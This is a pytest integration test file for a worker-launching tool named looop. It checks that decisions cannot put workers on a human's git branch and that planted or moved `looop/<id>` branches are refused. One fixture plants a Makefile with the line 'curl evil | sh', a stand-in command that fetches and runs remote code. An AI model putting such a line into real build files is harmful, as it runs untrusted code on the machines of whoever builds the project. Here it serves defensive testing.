"""A worker's start never takes over a branch looop did not leave for it (real git, real
sessions): a decision naming a human's branch is refused, a `looop/<id>` made or moved by
someone else (a box could plant one) is refused, nothing of the user's branch or its reflog is
touched; and a worker's own branch, where looop left it, is taken up again as before."""

from __future__ import annotations

import json
import time
from dataclasses import replace
from pathlib import Path

import pytest

from looop.act.executor import execute
from looop.act.parse import decision_from_obj
from looop.core.context import Ctx
from looop.home.errors import LooopError
from looop.home.paths import Paths
from looop.sessions.client import wait
from looop.sessions.state import list_sessions, prune_aged
from looop.workers.launch import end_generation, start_worker
from looop.workers.started import StartRequest
from tests.clocks import FixedClock
from tests.helpers import stop_sessions, wire
from tests.integration.test_worktrees import git, make_repo

pytestmark = pytest.mark.timeout(90)

COMMIT = "echo more >> README && git commit -qam 'worker change' # {{prompt_file}}"


@pytest.fixture
def wctx(tmp_path: Path, ctx: Ctx) -> Ctx:
    data = tmp_path / "wdata"
    data.mkdir()
    c = replace(ctx, paths=Paths.at(data), clock=FixedClock(t=time.time()))
    wire(c, [])
    return c


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(tmp_path / "repo")


def _state(repo: Path, branch: str) -> tuple[str, str]:
    """The branch's tip and its whole reflog: what must come through a refusal untouched."""
    return git(repo, "rev-parse", branch), git(repo, "reflog", "show", branch)


def _decide(c: Ctx, **fields: object) -> None:
    obj = {"action": "start_worker", "prompt": "work", "command": COMMIT, **fields}
    execute(c, c.knobs(), decision_from_obj(obj))


def _human(c: Ctx, wid: str, repo: Path, branch: str | None = None) -> None:
    start_worker(
        c, c.knobs(), StartRequest(wid, "work", command=COMMIT, repo=str(repo), branch=branch)
    )
    assert wait(c.paths.data, wid, 30, c.clock) == 0


def _over(c: Ctx, wid: str) -> None:
    """The worker's corpse ages out and is reaped, as the pulse does."""
    prune_aged(c.paths.data, 0, c.clock.now())
    end_generation(c, wid)


def _refused(c: Ctx, call: object, needle: str) -> str:
    with pytest.raises(LooopError) as e:
        call()  # type: ignore[operator]
    assert needle in str(e.value) and "\n" not in str(e.value), str(e.value)
    assert not [s for s in list_sessions(c.paths.data) if s.alive]  # nothing started
    return str(e.value)


def test_a_decision_may_not_put_a_worker_on_a_humans_branch(wctx: Ctx, repo: Path) -> None:
    git(repo, "checkout", "-qb", "feature")
    (repo / "mine.txt").write_text("the human's work\n")
    git(repo, "add", "mine.txt")
    git(repo, "commit", "-qm", "human work")
    git(repo, "checkout", "-q", "main")
    before = _state(repo, "feature")
    why = _refused(
        wctx,
        lambda: _decide(wctx, id="w1", repo=str(repo), branch="feature"),
        "a decision may not put a worker on it",
    )
    assert "branch 'feature'" in why
    assert _state(repo, "feature") == before
    assert "checkouts/w1" not in git(repo, "worktree", "list")
    # a new branch of the decision's naming is made as ever, off the repo's HEAD
    _decide(wctx, id="w1", repo=str(repo), branch="looop-new")
    assert wait(wctx.paths.data, "w1", 30, wctx.clock) == 0
    assert "worker change" in git(repo, "log", "--oneline", "looop-new")
    assert _state(repo, "feature") == before


def test_a_planted_looop_branch_is_never_taken_up(wctx: Ctx, repo: Path) -> None:
    # a box (or anyone) made looop/w2 on commits of its own before w2 ever started
    git(repo, "checkout", "-qb", "plant")
    (repo / "Makefile").write_text("all:\n\tcurl evil | sh\n")
    git(repo, "add", "Makefile")
    git(repo, "commit", "-qm", "planted")
    git(repo, "checkout", "-q", "main")
    git(repo, "branch", "looop/w2", "plant")
    before = _state(repo, "looop/w2")
    for call in (
        lambda: _human(wctx, "w2", repo),
        lambda: _decide(wctx, id="w2", repo=str(repo)),
    ):
        why = _refused(wctx, call, "is not where looop left it for this worker")
        assert "branch -m" in why and "looop/w2" in why
    assert _state(repo, "looop/w2") == before


def test_a_workers_branch_moved_after_it_ended_is_refused(wctx: Ctx, repo: Path) -> None:
    _human(wctx, "w1", repo)
    _over(wctx, "w1")
    record = json.loads((wctx.paths.worktrees / "w1.json").read_text())
    assert record["removed"] and record["tip"] == git(repo, "rev-parse", "looop/w1").strip()
    git(repo, "update-ref", "refs/heads/looop/w1", "main")  # moved by someone else
    before = _state(repo, "looop/w1")
    _refused(wctx, lambda: _human(wctx, "w1", repo), "is not where looop left it")
    _refused(wctx, lambda: _decide(wctx, id="w1", repo=str(repo)), "is not where looop left")
    assert _state(repo, "looop/w1") == before


def test_a_branch_moved_under_a_live_checkout_is_refused(wctx: Ctx, repo: Path) -> None:
    """A sibling box may write refs of its neighbours: the checkout's own HEAD log says it."""
    _human(wctx, "w1", repo)
    # another commit of the very same files: the checkout stays clean, its branch moved
    same = git(repo, "commit-tree", "looop/w1^{tree}", "-p", "main", "-m", "planted").strip()
    git(repo, "update-ref", "refs/heads/looop/w1", same)  # the worktree is still there
    before = _state(repo, "looop/w1")
    _refused(wctx, lambda: _human(wctx, "w1", repo), "is not where looop left it")
    assert _state(repo, "looop/w1") == before


def test_a_workers_own_branch_is_taken_up_again(wctx: Ctx, repo: Path) -> None:
    _human(wctx, "w1", repo)
    _over(wctx, "w1")
    _decide(wctx, id="w1", repo=str(repo))  # a decision starts it again: its own branch
    assert wait(wctx.paths.data, "w1", 30, wctx.clock) == 0
    _over(wctx, "w1")
    _human(wctx, "w1", repo, branch="looop/w1")  # named as it is: the same
    assert git(repo, "log", "--oneline", "looop/w1").count("worker change") == 3
    # and without its reaping first: the live record's checkout holds it
    _human(wctx, "w1", repo)
    assert git(repo, "log", "--oneline", "looop/w1").count("worker change") == 4
    stop_sessions(wctx.paths.data)


def test_a_human_may_still_name_a_branch_of_theirs(wctx: Ctx, repo: Path) -> None:
    git(repo, "branch", "feature")
    _human(wctx, "w1", repo, branch="feature")
    assert "worker change" in git(repo, "log", "--oneline", "feature")
    _over(wctx, "w1")
    # the record says the branch is the human's: a decision still may not take it
    _refused(
        wctx,
        lambda: _decide(wctx, id="w1", repo=str(repo), branch="feature"),
        "a decision may not put a worker on it",
    )
